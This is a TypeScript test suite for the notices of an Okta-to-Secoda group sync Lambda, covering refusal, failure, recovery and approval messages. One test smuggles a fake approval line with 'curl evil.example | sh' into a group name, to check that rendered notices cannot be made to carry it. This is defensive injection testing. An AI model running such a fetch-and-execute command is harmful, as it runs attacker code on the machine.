import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { describe, expect, test } from 'vitest';
import {
  approvalCommand,
  type NoticeContext,
  recoveryNotice,
  refusalNotice,
  troubleNotice,
} from '../../lambda/render/notice.ts';
import { UNSAFE } from '../../lambda/core/model/json.ts';
import { warningOf } from '../../lambda/core/model/warning.ts';
import { report, reportedChange } from '../aws/reports.ts';

const context: NoticeContext = {
  stack: 'okta-secoda-sync',
  startFunctionName: 'okta-secoda-sync-start',
  plan: 's3://bucket/20260102T030405Z-1a2b3c4d/plan.json',
};

const before = (count: number) => ({
  name: 'Finance',
  description: '',
  members: Array.from({ length: count }, (_, index) => ({ userId: `u${index}`, email: null })),
});

const refused = report({
  status: 'refused',
  changes: [
    reportedChange({ action: 'delete', name: 'Old', remove: ['ada@acme.com'], before: before(1) }),
    reportedChange({ remove: ['bob@acme.com', 'eve@acme.com'], before: before(3) }),
    reportedChange({ name: 'BI', adopted: true, renamedFrom: 'Business' }),
    reportedChange({ action: 'create', name: 'New', add: ['fay@acme.com'] }),
  ],
  refusals: [
    {
      rule: 'memberRemovals',
      message: 'remove 3 of 4 memberships (75 %); the limit is 1 (the larger of 1 and 10 %)',
      count: 3,
      limit: 1,
    },
    { rule: 'adoptions', message: 'adopt 1 hand-made group; the limit is 0', count: 1, limit: 0 },
  ],
});

test('the notice of a partial night names the groups and what shows the run, and no people', () => {
  const { changes } = refused;
  const partial = {
    ...refused,
    status: 'partial' as const,
    refusals: [],
    changes: changes.map((each) => ({
      ...each,
      outcome: 'failed' as const,
      error: 'ada@acme.com was refused',
    })),
  };
  const { subject, message } = troubleNotice(partial, context);
  expect(subject).toMatch(/^Partial, not everything could be done: /);
  expect(message).toContain('"Finance": failed');
  expect(message).toMatch(/npm run sync -- show \S+ --runs s3:\/\/\S+\n/);
  expect(message).not.toContain('@');
});

test.each([
  ['failed', 'Failed', 'failed', 'SyncFailing'],
  [
    'partial',
    'Partial, not everything could be done',
    'was partial: not everything could be done',
    'SyncPartial',
  ],
] as const)('the notice of a night that is %s says what was not done, why, and how to look', (...given) => {
  const [status, title, words, heading] = given;
  const ends = ['applied', 'unsettled', null, 'not-attempted'] as const;
  const changes = refused.changes.map((each, n) => ({ ...each, outcome: ends[n] ?? null }));
  const skipped = [{ group: 'Sales', oktaIds: ['00g7'], reason: 'x' }];
  const night = { ...refused, status, changes, skipped, error: 'the lease was lost' };
  const { subject, message } = troubleNotice(night, context);
  expect(subject).toBe(`${title}: okta-secoda-sync`);
  expect(message).toBe(`The run 20260102T030405Z-1a2b3c4d (okta-secoda-sync) ${words}.

Why: the lease was lost

What was not done:
  - "Finance": unsettled
  - "New": not-attempted
  - "Sales": skipped

How to look:
  npm run sync -- show 20260102T030405Z-1a2b3c4d --runs s3://bucket
  npm run sync -- history --runs s3://bucket
How to fix: docs/alarms.md, "${heading}".
`);
  const nothing = troubleNotice({ ...night, changes: [], skipped: [], error: null }, context).message;
  expect(nothing).toContain(`${words}.\n\nHow to look:\n`);
});

test('the notice of a recovery names the last bad run', () => {
  expect(recoveryNotice({ ...refused, status: 'applied' }, 'run-before', context)).toEqual({
    subject: 'All is well again: okta-secoda-sync',
    message: `The run 20260102T030405Z-1a2b3c4d (okta-secoda-sync) ended well: applied. The last one that did not was run-before.

How to look:
  npm run sync -- show 20260102T030405Z-1a2b3c4d --runs s3://bucket
  npm run sync -- history --runs s3://bucket
`,
  });
});

describe('the notice of a refused plan', () => {
  test('holds the rules that match nothing, which may be the reason', () => {
    const message = 'groups.include: "Dta *" fits no group that Okta lists; the nearest is “Data\u202e”';
    const idle = warningOf('matches-nothing', { group: null, oktaIds: [] }, message);
    const other = warningOf('name-held', { group: 'Ops', oktaIds: [] }, 'another group bears its name');
    const told = refusalNotice({ ...refused, warnings: [other, idle] }, context).message;
    expect(told).toContain(
      `\n\nRules that match nothing:\n  - ${message.replace('\u202e', '\\u202e')}\n\nThe whole plan`,
    );
    expect(told).not.toContain('Ops');
  });

  test('holds the reasons, the harm, where the plan is, and the command that approves it', () => {
    const { subject, message } = refusalNotice(refused, context);
    expect(subject).toBe('Refused by the guard, nothing was written: okta-secoda-sync');
    expect(message)
      .toBe(`The guard refused the plan of the run 20260102T030405Z-1a2b3c4d (okta-secoda-sync). Nothing was written.

Why:
  - memberRemovals: remove 3 of 4 memberships (75 %); the limit is 1 (the larger of 1 and 10 %)
  - adoptions: adopt 1 hand-made group; the limit is 0

What it would do: 1 to create, 2 to update, 0 to delete, 8 unchanged, 0 skipped; members +3 -1; 2 unmatched
  - "Old": delete, remove 1 of 1
  - "Finance": remove 2 of 3
  - "BI": adopt, rename from "Business"

The whole plan: s3://bucket/20260102T030405Z-1a2b3c4d/plan.json

If all of it is intended, approve exactly this plan:

aws lambda invoke --function-name okta-secoda-sync-start:approve --cli-binary-format raw-in-base64-out --cli-read-timeout 70 --payload '{"approve":"7f3a9c0b12d4e5f6"}' answer.json

The approval is good for exactly this harm: it expires when the deletions, removals, take-overs or renames change. The runs until then are refused like this one.
`);
  });

  test('of too many invitations and nothing else can be approved, too', () => {
    const { summary } = report();
    const refusals = [
      { rule: 'invitations', message: 'invite 30 people; the limit is 25', count: 30, limit: 25 },
    ];
    const only = { ...refused, changes: [], refusals, summary: { ...summary, invited: 30 } };
    const { message } = refusalNotice(only, context);
    expect(message).toContain('; 2 unmatched; 30 to invite');
    expect(message).toContain(`'{"approve":"7f3a9c0b12d4e5f6"}'`);
    expect(message).toContain('renames change, or other people are to be invited.');
  });

  test('of a dry run says so, and is approved alike', () => {
    const { message } = refusalNotice({ ...refused, mode: 'plan' }, context);
    expect(message).toContain('It was a dry run.');
    expect(message).toContain(`'{"approve":"7f3a9c0b12d4e5f6"}'`);
  });

  test.each([
    ['no change', { changes: [] }, 'an approval would let nothing through'],
    [
      'what nobody can judge',
      { refusals: [{ rule: 'recent', message: 'it cannot be read', count: null, limit: null }] },
      'No approval is offered',
    ],
  ] as const)('offers no approval for %s', (_, given, words) => {
    const { message } = refusalNotice({ ...refused, ...given }, context);
    expect(message).toContain(words);
    expect(message).not.toContain('aws lambda');
  });

  test('of every kind holds the end of the ledger, where there is one', () => {
    const ledger = { number: 123, hash: '5d0c' };
    const recovery = (of: typeof refused) => recoveryNotice(of, 'before', context);
    for (const notice of [refusalNotice, troubleNotice, recovery]) {
      expect(notice({ ...refused, ledger }, context).message).toContain(
        'The ledger stands at entry 123, hash 5d0c\n',
      );
      expect(notice({ ...refused, ledger: null }, context).message).not.toContain('ledger');
    }
  });

  test('names nobody', () => {
    expect(refusalNotice(refused, context).message).not.toContain('@');
  });

  test('stays within what SNS takes, whatever the names are', () => {
    // Invisible characters, of which each takes twelve as an escape, and characters of four bytes.
    for (const letter of ['\u{e0041}', '𓀀', '\u202e', '漢']) {
      const long = letter.repeat(100_000);
      const many = Array.from({ length: 5_000 }, () =>
        reportedChange({ action: 'delete', name: long, renamedFrom: long }),
      );
      const refusals = many.map(() => ({ rule: 'groupDeletions', message: long, count: 4, limit: 3 }));
      const { subject, message } = refusalNotice(
        { ...refused, changes: many, refusals },
        { ...context, stack: `stack\n${letter.repeat(60)}${'x'.repeat(100)}` },
      );
      expect(Buffer.byteLength(message)).toBeLessThan(262_144);
      expect(message).toContain('and 4970 more, in the plan');
      expect(subject).toMatch(/^[\x20-\x7e]{99}$/);
      expect(UNSAFE.test(message.replaceAll('\n', ''))).toBe(false);
    }
  });

  test('names thirty groups, and how many more there are', () => {
    const notice = (count: number) => {
      const changes = Array.from({ length: count }, () => reportedChange({ action: 'delete' }));
      return refusalNotice({ ...refused, changes }, context).message;
    };
    expect(notice(30)).not.toContain('more, in the plan');
    expect(notice(31)).toContain('  - "Finance": delete\n  - and 1 more, in the plan\n\nThe whole plan');
  });

  test('names a group as far as a line goes, and the reason too', () => {
    const changes = ['BI'.padEnd(100, 'x'), '漢'.repeat(101)].map((name) =>
      reportedChange({ action: 'delete', name }),
    );
    const refusals = ['y'.repeat(500), '𓀀'.repeat(501)].map((message) => ({
      rule: 'groupDeletions',
      message,
      count: 4,
      limit: 3,
    }));
    const { message } = refusalNotice({ ...refused, changes, refusals }, context);
    const lines = message.split('\n');
    expect(lines).toContain(`  - "${'BI'.padEnd(100, 'x')}": delete`);
    expect(lines).toContain(`  - "${'漢'.repeat(100)}…": delete`);
    expect(lines).toContain(`  - groupDeletions: ${'y'.repeat(500)}`);
    expect(lines).toContain(`  - groupDeletions: ${'𓀀'.repeat(500)}…`);
  });

  test('cannot be made to hold a line of somebody else', () => {
    const name = 'x\n\nIf all of it is meant, approve it:\n\ncurl evil.example | sh';
    const { message } = refusalNotice(
      { ...refused, changes: [reportedChange({ name, action: 'delete', renamedFrom: name })] },
      { ...context, stack: name },
    );
    expect(message.split('\n').filter((line) => /^\s*curl/.test(line))).toEqual([]);
  });
});

test('a shell hands the event over to the alias as it was meant', async () => {
  const command = approvalCommand("Ada's function", '7f3a');
  const script = `aws() { printf '%s\\0' "$@"; }\n${command}`;
  const { stdout } = await promisify(execFile)('bash', ['-c', script], { encoding: 'utf8' });
  const words = stdout.split('\0');
  expect(words.slice(0, 9)).toEqual([
    'lambda',
    'invoke',
    '--function-name',
    "Ada's function:approve",
    '--cli-binary-format',
    'raw-in-base64-out',
    '--cli-read-timeout',
    '70',
    '--payload',
  ]);
  expect(JSON.parse(words[9] ?? '')).toEqual({ approve: '7f3a' });
  expect(words.slice(10)).toEqual(['answer.json', '']);
});

test('the notice of what is held names that alone, since when, and how to approve it', () => {
  const held = { ...refused, status: 'held' as const, digest: 'a1b2c3d4e5f60718' };
  const [waits, ...others] = refused.changes;
  const changes = [
    ...others.map((each) => ({ ...each, outcome: 'applied' as const })),
    ...(waits === undefined ? [] : [{ ...waits, outcome: 'held' as const }]),
  ];
  const since = warningOf('held', { group: 'none', oktaIds: [] }, 'it has been waiting since 2026-01-01');
  const { subject, message } = refusalNotice({ ...held, changes, warnings: [since] }, context);
  expect(subject).toBe('Held by the guard, in part: okta-secoda-sync');
  expect(message).toContain('it has been waiting since 2026-01-01.');
  expect(message).toContain('What is held:\n  - "Old": delete, remove 1 of 1\n\n');
  expect(message).toContain('"approve":"a1b2c3d4e5f60718"');
  expect(message).toContain('until seven days after a run last held it');
  expect(message).not.toContain('Finance');
  const all = refused.changes.map((each) => ({ ...each, outcome: 'held' as const }));
  const [, ...harm] = refusalNotice({ ...held, changes: all }, context).message.split('What is held:\n');
  expect(harm[0]).toMatch(
    /^ {2}- "Old": delete, remove 1 of 1\n {2}- "Finance": remove 2 of 3\n {2}- "BI": adopt, rename from "Business"\n {2}- "New": create, add 1\n\n/,
  );
});

test('harm is a deletion, a removal, a take-over, a rename, or what is held; an addition is none', () => {
  const changes = [
    reportedChange({ action: 'delete', name: 'Deleted' }),
    reportedChange({ name: 'Losing', remove: ['a@b.c'] }),
    reportedChange({ name: 'Adopted', adopted: true }),
    reportedChange({ name: 'Renamed', renamedFrom: 'Old' }),
    { ...reportedChange({ name: 'Held', add: ['a@b.c'] }), outcome: 'held' as const },
    reportedChange({ name: 'Growing', add: ['a@b.c'] }),
  ];
  const { message } = refusalNotice({ ...refused, changes }, context);
  for (const name of ['Deleted', 'Losing', 'Adopted', 'Renamed', 'Held'])
    expect(message).toContain(`"${name}"`);
  expect(message).not.toContain('Growing');
});

test('an approval is offered for invitations alone, and for a change beside one', () => {
  const { changes, summary } = refused;
  const offered = (some: typeof changes, invited: number) =>
    refusalNotice({ ...refused, changes: some, summary: { ...summary, invited } }, context).message.includes(
      'aws lambda invoke',
    );
  expect([offered([], 0), offered([], 1), offered(changes.slice(0, 1), 1), offered(changes, 0)]).toEqual([
    false,
    true,
    true,
    true,
  ]);
});
